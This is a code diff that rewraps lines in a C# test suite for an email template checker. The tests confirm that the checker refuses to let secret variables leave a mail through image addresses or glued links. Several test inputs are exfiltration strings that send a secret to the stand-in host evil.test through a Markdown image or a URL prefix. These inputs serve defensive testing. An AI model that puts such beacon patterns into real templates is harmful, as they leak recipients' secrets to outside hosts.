@@ -2,7 +2,9 @@ using System.Text.Json;
 
 namespace Waybill.Templates.Specs;
 
-/// <summary>A secret stands in the text, or is the whole address of a link: by anything else it would leave the mail before anybody reads it.</summary>
+/// <summary>
+/// A secret stands in the text, or is the whole address of a link: by anything else it would leave the mail before anybody reads it.
+/// </summary>
 public class Showing_a_secret
 {
     static readonly TemplateVariable[] Variables =
@@ -83,7 +85,8 @@ public class Showing_a_secret
     [InlineData("{{> glued before=\"https://evil.test/?u=\" after=url}}")]
     public void Is_refused_where_mail_programs_would_make_an_address_of_it(string body)
     {
-        foreach (var source in (TemplateSource[])[Press.Markdown(body), Press.Html("<p>x</p>") with { Text = body }, Press.Markdown("x", body)])
+        foreach (var source in (TemplateSource[])[Press.Markdown(body), Press.Html("<p>x</p>") with { Text = body },
+            Press.Markdown("x", body)])
             Assert.NotEmpty(Fatal(source, ("glued", "{{before}}{{after}}")));
     }
 
@@ -118,13 +121,17 @@ public class Showing_a_secret
 
     [Fact]
     public void Is_told_of_in_a_sentence_that_says_what_to_do() => Assert.Equal(
-        "url is secret and cannot stand in the address of a picture, by which it would leave the mail: let it stand in the text, or be the whole address of a link.",
+        "url is secret and cannot stand in the address of a picture, by which it would leave the mail: let it stand in the text, or be the "
+            + "whole address of a link.",
         Assert.Single(Fatal(Press.Markdown("![x](https://evil.test/p.png?u={{url}})"))).Message);
 
     /// <summary>What stands in a part is read in the same context by the program that checks and by the one that sends.</summary>
     [Fact]
     public void Reads_the_same_in_a_part_that_holds_text() => Assert.Contains(
-        "the outer one", Press.Render(Press.Markdown("{{#with a}}\n\n{{#> notice}}\n{{../b}}\n{{/notice}}\n\n{{/with}}"), """{"a": {"b": "the inner one"}, "b": "the outer one"}""").Text, StringComparison.Ordinal);
+        "the outer one",
+        Press.Render(
+            Press.Markdown("{{#with a}}\n\n{{#> notice}}\n{{../b}}\n{{/notice}}\n\n{{/with}}"),
+            """{"a": {"b": "the inner one"}, "b": "the outer one"}""").Text, StringComparison.Ordinal);
 
     [Fact]
     public void Takes_no_longer_however_loops_are_nested()
@@ -137,6 +144,8 @@ public class Showing_a_secret
     {
         var all = new Dictionary<string, string>(Partials, StringComparer.Ordinal);
         foreach (var (name, text) in partials) all[name] = text;
-        return [.. TemplateChecks.Check([source with { Variables = Variables, Partials = all }], [], Press.Brand).Where(problem => problem.IsFatal)];
+        return [
+            .. TemplateChecks.Check([source with { Variables = Variables, Partials = all }], [], Press.Brand)
+                .Where(problem => problem.IsFatal)];
     }
 }
